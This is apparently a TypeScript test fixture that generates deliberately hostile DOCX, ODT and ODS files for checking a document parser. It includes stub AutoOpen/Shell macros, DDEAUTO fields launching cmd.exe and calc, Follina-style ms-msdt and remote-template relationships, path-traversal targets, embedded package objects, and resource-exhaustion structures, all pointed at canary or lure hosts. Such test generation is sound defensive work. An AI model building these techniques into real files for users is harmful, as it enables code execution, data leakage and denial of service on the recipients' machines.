import { docx, p, paragraph, part, tbl, tc, tr } from "../../support/docx-builder.ts";
import { ods, odt } from "../../support/odt-builder.ts";
import { strToU8, unzipSync, zipSync } from "fflate";
import type { Lure, Made, Maker } from "./hostile-file.ts";

const PACKAGE = "http://schemas.openxmlformats.org/package/2006/relationships";
const OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
const HEAD = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>';
const TABLE = tbl([tr(["Мероприятие", "Срок"]), tr(["Опрос", "май 2026"])]);

const relations = (...lines: readonly string[]) =>
  `${HEAD}<Relationships xmlns="${PACKAGE}">${lines.join("")}</Relationships>`;
const relation = (id: string, type: string, target: string, mode = "External") =>
  `<Relationship Id="${id}" Type="${type.includes(":") ? type : `${OFFICE}/${type}`}" Target="${target}" TargetMode="${mode}"/>`;

const targets = ({ web, file, canary }: Lure): readonly string[] => [
  `${web}/a`,
  file,
  `\\\\127.0.0.1\\share\\a.dotm`,
  `mhtml:${web}/a!x-usc:${web}/b`,
  `file:///${canary}`,
  "ms-msdt:/id PCWDiagnostic /skip force",
];

const word = (name: string, body: readonly string[], more: Readonly<Record<string, string>>): Made => ({
  name,
  bytes: docx(body, [], more),
  active: true,
});

/** A part of bytes put into a whole archive. */
function withPart(bytes: Uint8Array, more: Readonly<Record<string, Uint8Array>>): Uint8Array {
  return zipSync({ ...unzipSync(bytes), ...more });
}

const field = (words: string): string =>
  `<w:p><w:r><w:fldChar w:fldCharType="begin" w:dirty="true"/></w:r><w:r><w:instrText xml:space="preserve"> ${words} </w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>план</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`;

const VBA = strToU8("\u00d0\u00cf\u0011\u00e0Attribute VB_Name Sub AutoOpen() Shell");

/** Documents of words that do something when they are opened. */
export const words: readonly Maker[] = [
  // macros, under their own name and under others
  (random) => {
    const place = random.pick([
      "word/vbaProject.bin",
      "word/VBAPROJECT.BIN",
      "word/media/image1.png",
      "customXml/vbaProject1.bin",
      "word\\vbaProject.bin",
      "word/activeX/activeX1.bin",
    ]);
    const rels = relations(
      relation(
        "v1",
        "http://schemas.microsoft.com/office/2006/relationships/vbaProject",
        place.replace(/^word./, ""),
        "Internal",
      ),
    );
    const bytes = withPart(docx([p("План"), TABLE], [], { "word/_rels/document.xml.rels": rels }), { [place]: VBA });
    return { name: random.pick(["план.docx", "план.docm", "план.doc", "план.pdf"]), bytes, active: true };
  },
  // kinds of parts that promise macros
  (random) => {
    const kind = random.pick([
      "application/vnd.ms-word.document.macroEnabled.main+xml",
      "application/vnd.ms-office.vbaProject",
      "application/vnd.ms-word.template.macroEnabledTemplate.main+xml",
      "application/vnd.ms-office.activeX+xml",
    ]);
    const types = `${HEAD}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="${kind}"/></Types>`;
    return word("план.docx", [p("План"), TABLE], { "[Content_Types].xml": types });
  },
  // a template, an object, a frame, a picture, a part of another document from afar
  (random, lure) => {
    const type = random.pick([
      "attachedTemplate",
      "oleObject",
      "frame",
      "image",
      "subDocument",
      "aFChunk",
      "hyperlink",
      "video",
      "font",
      "theme",
      "settings",
      "customXml",
      "package",
    ]);
    const rels = relations(relation("x1", type, random.pick(targets(lure))));
    const draw = `<w:p><w:r><w:pict><v:shape style="width:90pt;height:90pt"><v:imagedata r:id="x1" xmlns:r="${OFFICE}"/></v:shape></w:pict></w:r></w:p>`;
    const settings = `<w:attachedTemplate r:id="x1" xmlns:r="${OFFICE}"/>`;
    return word("план.docx", [p("План"), draw, `<w:altChunk r:id="x1" xmlns:r="${OFFICE}"/>`, TABLE], {
      "word/_rels/document.xml.rels": rels,
      "word/_rels/settings.xml.rels": rels,
      "word/settings.xml": part("settings", settings),
      "_rels/.rels": relations(
        relation("r1", "officeDocument", "word/document.xml", "Internal"),
        random.oneIn(2) ? relation("x1", type, lure.web) : "",
      ),
    });
  },
  // fields that ask, include or start
  (random, lure) => {
    const act = random.pick([
      `INCLUDEPICTURE "${lure.web}/a.png" \\d`,
      `INCLUDETEXT "${lure.file}"`,
      `DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"`,
      `DDE soffice "${lure.file}" a`,
      `LINK Excel.Sheet.8 "${lure.web}/a.xls" "" \\a`,
      `HYPERLINK "javascript:alert(1)"`,
      `DATABASE \\d "${lure.web}"`,
      `IMPORT "${lure.web}/a.png"`,
      `MACROBUTTON AutoOpen нажать`,
      `= 9999999999 ^ 9999999999`,
    ]);
    return word("план.docx", [p("План"), field(act), TABLE], {});
  },
  // an object inside
  (_random, { canary }) => {
    const inside = strToU8(`\u0002package\0touch ${canary}\0${"MZ".repeat(50)}`);
    const rels = relations(relation("o1", "oleObject", "embeddings/oleObject1.bin", "Internal"));
    const object = `<w:p><w:r><w:object><o:OLEObject Type="Embed" ProgID="Package" r:id="o1" xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:r="${OFFICE}"/></w:object></w:r></w:p>`;
    const bytes = docx([p("План"), object, TABLE], [], { "word/_rels/document.xml.rels": rels });
    return { name: "план.docx", bytes: withPart(bytes, { "word/embeddings/oleObject1.bin": inside }), active: true };
  },
  // relationships in a circle, to themselves, out of the archive
  (random, { escaped }) => {
    const target = random.pick([
      "document.xml",
      "../_rels/.rels",
      `../../../../${escaped}`,
      "/word/_rels/document.xml.rels",
      "",
      "%2e%2e/a",
      "\0",
      "styles.xml#".repeat(1000),
    ]);
    const all = ["styles", "numbering", "footnotes", "endnotes", "officeDocument"].map((type, at) =>
      relation(`r${at}`, type, target, "Internal"),
    );
    return word("план.docx", [p("План"), TABLE], {
      "word/_rels/document.xml.rels": relations(...all),
      ...(random.oneIn(3) && { "_rels/.rels": relations(...all) }),
    });
  },
  // styles, lists and notes in a circle
  (random) => {
    const many = random.pick([1, 50, 20_000]);
    const styles = Array.from(
      { length: many },
      (_, at) =>
        `<w:style w:type="paragraph" w:styleId="s${at}"><w:name w:val="s${at}"/><w:basedOn w:val="s${(at + 1) % many}"/><w:link w:val="s${at}"/></w:style>`,
    ).join("");
    const numbers = `<w:abstractNum w:abstractNumId="1"><w:numStyleLink w:val="s0"/><w:styleLink w:val="s0"/><w:lvl w:ilvl="${random.pick(["0", "-1", "999999999"])}"><w:start w:val="${random.pick(["1e309", "-5", "2147483647"])}"/><w:pStyle w:val="s0"/><w:lvlText w:val="${"%1".repeat(500)}"/></w:lvl></w:abstractNum><w:num w:numId="1"><w:abstractNumId w:val="1"/></w:num>`;
    const note = `<w:footnote w:id="1"><w:p><w:r><w:footnoteReference w:id="1"/></w:r></w:p></w:footnote>`;
    const body = [
      paragraph('<w:r><w:footnoteReference w:id="1"/></w:r>', { list: { id: 1 } }),
      p("План", { level: 1 }),
      TABLE,
    ];
    return {
      ...word("план.docx", body, {
        "word/styles.xml": part("styles", styles),
        "word/numbering.xml": part("numbering", numbers),
        "word/footnotes.xml": part("footnotes", note),
      }),
    };
  },
  // tables of monstrous spans, and tables without number
  (random) => {
    const span = random.pick([500, 63, 100_000, 2_147_483_647]);
    const rows = Array.from({ length: random.pick([3, 300, 3000]) }, () =>
      tr([tc("а", { span }), tc("б", { merge: "on" }), "в"], { before: span }),
    );
    const tables = Array.from({ length: random.pick([1, 40]) }, () => tbl(rows.slice(0, 300), [1, 2, 3]));
    return { name: "план.docx", bytes: docx([p("План"), ...tables]) };
  },
  // OpenDocument: scripts, events, links, pictures and tables from afar
  (random, lure) => {
    const act = random.pick([
      `<office:event-listeners><script:event-listener script:language="ooo:script" script:event-name="dom:load" xlink:href="vnd.sun.star.script:a.py$run?language=Python&amp;location=share" xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0"/></office:event-listeners><text:p>План</text:p>`,
      `<text:p><draw:frame text:anchor-type="as-char"><draw:image xlink:href="${lure.web}/a.png" xlink:type="simple" xlink:actuate="onLoad"/></draw:frame>План</text:p>`,
      `<text:p><draw:frame text:anchor-type="as-char"><draw:object xlink:href="${lure.web}/a.ods" xlink:type="simple" xlink:actuate="onLoad"/></draw:frame>План</text:p>`,
      `<text:p><draw:frame text:anchor-type="as-char"><draw:floating-frame xlink:href="${lure.file}" xlink:type="simple"/></draw:frame>План</text:p>`,
      `<text:section text:name="a"><text:section-source xlink:href="${lure.file}" xlink:type="simple"/><text:p>План</text:p></text:section>`,
      `<text:section text:name="a"><office:dde-source office:dde-application="soffice" office:dde-topic="${lure.file}" office:dde-item="a" office:automatic-update="true"/><text:p>План</text:p></text:section>`,
      `<text:p><text:execute-macro text:name="a">План</text:execute-macro><text:database-display text:column-name="a" text:table-name="${lure.web}">а</text:database-display></text:p>`,
    ]);
    return { name: "план.odt", bytes: odt(act), active: true };
  },
  (random, lure) => {
    const times = random.pick(["2", "1048576", "2147483647", "-1", "99999999999"]);
    const act = random.pick([
      `<table:table table:name="a"><table:table-source xlink:href="${lure.web}/a.ods" table:mode="copy-all" table:refresh-delay="PT1S"/><table:table-row><table:table-cell table:formula="of:=WEBSERVICE(&quot;${lure.web}/w&quot;)"><text:p>План</text:p></table:table-cell></table:table-row></table:table>`,
      `<table:table table:name="a"><table:table-row table:number-rows-repeated="${times}"><table:table-cell table:number-columns-repeated="${times}"><text:p>План</text:p></table:table-cell></table:table-row></table:table>`,
      `<table:table table:name="a"><table:table-row><table:table-cell table:number-rows-spanned="${times}" table:number-columns-spanned="${times}" table:formula="of:=DDE(&quot;soffice&quot;;&quot;${lure.file}&quot;;&quot;a&quot;)"><text:p>План</text:p></table:table-cell></table:table-row></table:table>`,
    ]);
    return { name: "план.ods", bytes: ods(act), active: true };
  },
  // macros of OpenDocument
  (random) => {
    const place = random.pick([
      "Basic/script-lb.xml",
      "Basic/Standard/Module1.xml",
      "Scripts/python/a.py",
      "Scripts/beanshell/a.bsh",
      "basic/script-lb.xml",
      "./Basic/script-lc.xml",
    ]);
    return {
      name: "план.odt",
      bytes: withPart(odt("<text:p>План</text:p>"), { [place]: strToU8("Sub AutoOpen: Shell") }),
      active: true,
    };
  },
];
